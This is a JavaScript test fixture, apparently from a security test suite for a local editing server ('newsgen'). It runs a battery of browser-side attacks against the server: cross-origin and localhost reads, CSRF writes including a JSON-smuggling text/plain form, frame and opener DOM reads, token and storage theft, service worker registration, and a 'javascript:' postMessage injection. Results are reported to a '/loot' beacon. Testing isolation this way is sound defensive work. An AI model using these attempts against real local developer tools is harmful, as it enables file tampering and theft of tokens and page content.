/* Every attack that a script of the site can try on the desk. The test replaces names in capitals. */
(async () => {
  const site = location.origin;
  const desk = site.replace(/:\d+$/, ":PORT");
  const own = `${desk}/_newsgen/`;
  const near = new URL(desk).port;
  const save = "SAVE";
  const report = (words) => {
    new Image().src = `${site}/loot?${encodeURIComponent(String(words).slice(0, 900))}`;
  };
  const read = (address, more) => fetch(address, more).then((answer) => answer.text());
  const post = (address, more) => read(address, { method: "POST", body: save, ...more });
  const framed = (tag, address, look) =>
    new Promise((done, fail) => {
      const frame = document.createElement(tag);
      frame[tag === "object" ? "data" : "src"] = address;
      frame.onload = frame.onerror = () => {
        try {
          done(look(frame));
        } catch (error) {
          fail(error);
        }
      };
      document.documentElement.append(frame);
    });
  const inside = (frame) => frame.contentDocument.documentElement.outerHTML;
  const heard = (address) =>
    new Promise((done, fail) => {
      const source = new EventSource(address);
      for (const kind of ["message", "notes"])
        source.addEventListener(kind, ({ data }) => {
          source.close();
          done(data);
        });
      source.onerror = fail;
    });
  const opened = (address) =>
    new Promise((done, fail) => {
      const other = window.open(address, "desk");
      addEventListener("message", ({ data }) => done(JSON.stringify(data)));
      let rounds = 0;
      const look = () => {
        try {
          const text = other.document.documentElement.outerHTML;
          if (text.includes("data-token")) return done(text);
        } catch (error) {
          if (rounds > 20) return fail(error);
        }
        other.postMessage({ newsgen: "/", problems: [{ editor: "javascript:alert(1)" }] }, "*");
        if (rounds++ > 40) return fail("nothing");
        setTimeout(look, 25);
      };
      look();
    });
  const tries = {
    read: () => read(own),
    readBlind: () => read(own, { mode: "no-cors", credentials: "include" }),
    readSource: () => read(`${own}source?path=PATH`),
    readBySite: () => read("/_newsgen/source?path=PATH"),
    readDeskBySite: () => read("/_newsgen/", { redirect: "follow" }),
    readByAddress: () => read(`http://127.0.0.1:${near}/_newsgen/`),
    readByAddress6: () => read(`http://[::1]:${near}/_newsgen/`),
    readAssets: () => read("/_newsgen/assets/desk.js"),
    write: () => post(`${own}save`),
    writeBlind: () =>
      post(`${own}save`, { mode: "no-cors", headers: { "content-type": "text/plain" } }),
    writeBySite: () => post("/_newsgen/save", { headers: { "x-newsgen-token": "TOKEN" } }),
    writeWithToken: () => post(`${own}save`, { headers: { "x-newsgen-token": "TOKEN" } }),
    beacon: () => navigator.sendBeacon(`${own}save`, save),
    frame: () => framed("iframe", own, inside),
    frameBySite: () => framed("iframe", "/_newsgen/", inside),
    frameEdit: () => framed("iframe", `${own}edit?path=PATH`, inside),
    object: () => framed("object", own, inside),
    embed: () => framed("embed", own, (frame) => frame.getSVGDocument().documentElement.outerHTML),
    script: () => framed("script", `${own}source?path=PATH`, () => ""),
    module: () => import(`${own}assets/desk.js`),
    events: () => heard(`${own}events?page=/`),
    eventsOfSite: () => heard("/_newsgen/events?page=/"),
    open: () => opened(own),
    openBySite: () => opened("/_newsgen/"),
    opener: () => opener.document.documentElement.outerHTML,
    parent: () => parent.document.documentElement.outerHTML,
    top: () => top.document.documentElement.outerHTML,
    topToken: () => top.document.body.dataset.token,
    around: () => [document.referrer, name, JSON.stringify(history.state), document.cookie].join(),
    scripts: () => [...document.scripts].map((one) => one.outerHTML).join(),
    storage: () => JSON.stringify({ ...localStorage, ...sessionStorage }),
    domain: () => {
      document.domain = "localhost";
      return top.document.documentElement.outerHTML;
    },
    worker: () => navigator.serviceWorker.register("/sw.js").then(() => "REGISTERED"),
    workerOfGuest: () =>
      navigator.serviceWorker.register("/media/world/x.js").then(() => "REGISTERED"),
    caches: () => caches.keys().then((names) => Promise.all(names)),
    form: () =>
      new Promise((done) => {
        const form = document.createElement("form");
        Object.assign(form, {
          method: "post",
          action: `${own}save`,
          enctype: "text/plain",
          target: "hidden",
        });
        form.innerHTML = `<input name='{"path":"PATH","text":"overwritten","digest":"DIGEST","x":"' value='"}'>`;
        const frame = Object.assign(document.createElement("iframe"), { name: "hidden" });
        frame.onload = () => done("");
        document.documentElement.append(frame, form);
        form.submit();
      }),
  };
  const late = () => new Promise((_, fail) => setTimeout(fail, 1500));
  const all = Object.entries(tries).map(async ([what, attempt]) => {
    try {
      report(`${what}: ${await Promise.race([attempt(), late()])}`);
    } catch {
      report(`${what}: nothing`);
    }
  });
  report("ran");
  await Promise.all(all);
  document.documentElement.dataset.done = Object.keys(tries).length;
})();
